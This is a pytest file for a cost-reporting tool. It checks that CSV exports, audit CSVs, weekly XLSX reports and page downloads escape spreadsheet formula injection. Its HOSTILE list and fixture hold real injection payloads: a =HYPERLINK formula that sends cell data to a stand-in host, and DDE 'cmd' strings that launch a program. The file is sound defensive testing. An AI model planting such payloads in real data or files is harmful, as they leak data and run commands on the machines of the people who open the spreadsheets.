"""No CSV or workbook the product writes holds a formula: FOCUS export, audit --csv, weekly XLSX, page downloads."""

from __future__ import annotations

import csv
import io
import re
import sys
from datetime import timedelta
from pathlib import Path

import polars as pl
import pytest
from guard_support import run_cli
from openpyxl import load_workbook

from app.reports.csv_writer import FORMULA_TRIGGERS, frame_csv
from ingest import records as r
from ingest.loader import load
from models import audit
from tests_support import REPO_ROOT

sys.path.insert(0, str(REPO_ROOT / "tests" / "reports"))
import rep_seed  # noqa: E402

NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
           "\r=1+1", "-2+3"]


def unescaped_formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR, and not a plain number."""
    return [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not NUMBER.match(c)]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.fixture
def hostile_db(cli_env, engine):
    """The report seed (with its =HYPERLINK model) plus usage under more formula-leading names."""
    rep_seed.seed(engine)
    start = rep_seed.SINCE + timedelta(hours=10)
    load(engine, [r.UsageHourly(provider="openai", account_id=name, bucket_start_at=start,
                                bucket_end_at=start + timedelta(hours=1), model=name, project_id=name,
                                input_tokens=1000, output_tokens=100) for name in HOSTILE], source="t", target="t")
    with engine.begin() as conn:
        audit.record(conn, "@SUM(1+1)", "price", "=cmd|' /C calc'!A0", "set", None, {"note": "+evil"})
    return cli_env


def test_export_focus_has_no_formula_cells(hostile_db, tmp_path):
    out = tmp_path / "focus.csv"
    result = run_cli("export", "focus", "--out", out, "--since", "2026-10-26", "--until", "2026-11-08")
    assert result.code == 0, result.output
    cells = csv_cells(out.read_text(encoding="utf-8"))
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the name is there, as text
    assert unescaped_formulas(cells) == []


def test_audit_csv_has_no_formula_cells(hostile_db):
    result = run_cli("audit", "--csv")
    assert result.code == 0, result.output
    cells = csv_cells(result.output)
    assert "'@SUM(1+1)" in cells
    assert unescaped_formulas(cells) == []


def test_weekly_xlsx_has_no_formula_cells(hostile_db, tmp_path):
    result = run_cli("report", "weekly", "--week", rep_seed.WEEK, "--out", tmp_path, "--format", "xlsx")
    assert result.code == 0, result.output
    [path] = list(Path(tmp_path).glob("*.xlsx"))
    book = load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert any("HYPERLINK" in t for t in texts)


def test_page_downloads_are_formula_safe():
    frame = pl.DataFrame({"model": HOSTILE, "cost_usd": [-1.5, 2.0, 0.0, 1.0, 3.0, -0.25],
                          "note": ["-0.5", "ok", None, "a", "b", "c"]})
    cells = csv_cells(frame_csv(frame).decode("utf-8"))
    assert unescaped_formulas(cells) == []
    assert "-1.5" in cells and "-0.5" in cells  # numbers stay numbers
    assert cells.count("'" + HOSTILE[0]) == 1


def test_every_page_table_downloads_through_the_writer():
    pages = (REPO_ROOT / "app" / "app_pages").glob("*.py")
    for page in pages:
        text = page.read_text()
        assert "st.dataframe(" not in text and ".dataframe(" not in text.replace("show_table(", ""), page.name
